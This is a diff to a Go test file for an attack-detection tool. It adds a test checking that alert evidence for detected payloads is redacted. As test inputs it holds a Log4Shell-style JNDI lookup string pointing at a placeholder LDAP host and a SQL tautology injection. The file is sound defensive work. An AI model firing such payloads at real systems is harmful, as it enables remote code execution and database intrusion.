@@ -5,6 +5,9 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/google/go-cmp/cmp"
+
+	"github.com/evidentsec/evident/internal/redact"
 	"github.com/evidentsec/evident/internal/telemetry"
 )
 
@@ -166,7 +169,7 @@ func TestRuleAlert(t *testing.T) {
 	sp := spanWith("user_agent.original", "${jndi:ldap://x.example/a}")
 	sp.TraceID = [16]byte{1}
 	sp.SpanID = [8]byte{2}
-	as := rules.Alerts(&sp, tm(0), tm(1))
+	as := rules.Alerts(&sp, nil, tm(0), tm(1))
 	if len(as) != 1 {
 		t.Fatalf("Alerts = %d alerts, want 1", len(as))
 	}
@@ -176,6 +179,41 @@ func TestRuleAlert(t *testing.T) {
 		a.Evidence.TraceID != "01000000000000000000000000000000" || a.Evidence.SpanID != "0200000000000000" ||
 		a.DedupeKey != "exploit_payload|shop|GET /search|jndi-lookup" {
 		t.Errorf("alert = %+v", a)
+	}
+}
+
+func TestRuleAlertRedacted(t *testing.T) {
+	rules := mustRules(t)
+	red, err := redact.New(redact.DefaultConfig())
+	if err != nil {
+		t.Fatal(err)
+	}
+	tests := []struct {
+		name, field, value string
+		want               Evidence
+	}{
+		{
+			name: "query", field: "url.query", value: "access_token=SECRET123&q=%24%7Bjndi:ldap://x.example/a%7D",
+			want: Evidence{Rule: "jndi-lookup", Class: "jndi-injection", Field: "url.query", Match: "${jndi:",
+				Value: "access_token=redacted&q=${jndi:ldap://x.example/a}", Offset: 25, Length: 7, Endpoint: "GET /search"},
+		},
+		{
+			name: "statement", field: "db.query.text", value: "SELECT * FROM users WHERE password='hunter2' OR '1'='1'",
+			want: Evidence{Rule: "sqli-db-tautology", Class: "sql-injection", Field: "db.query.text", Match: "REDACTED",
+				Value: "select * from users where password=? or ?=?", Offset: 44, Length: 11, Endpoint: "GET /search"},
+		},
+	}
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			sp := spanWith(tt.field, tt.value)
+			as := rules.Alerts(&sp, red, tm(0), tm(1))
+			if len(as) != 1 {
+				t.Fatalf("Alerts = %+v, want 1 alert", as)
+			}
+			if diff := cmp.Diff(tt.want, as[0].Evidence); diff != "" {
+				t.Errorf("evidence (-want +got):\n%s", diff)
+			}
+		})
 	}
 }
 
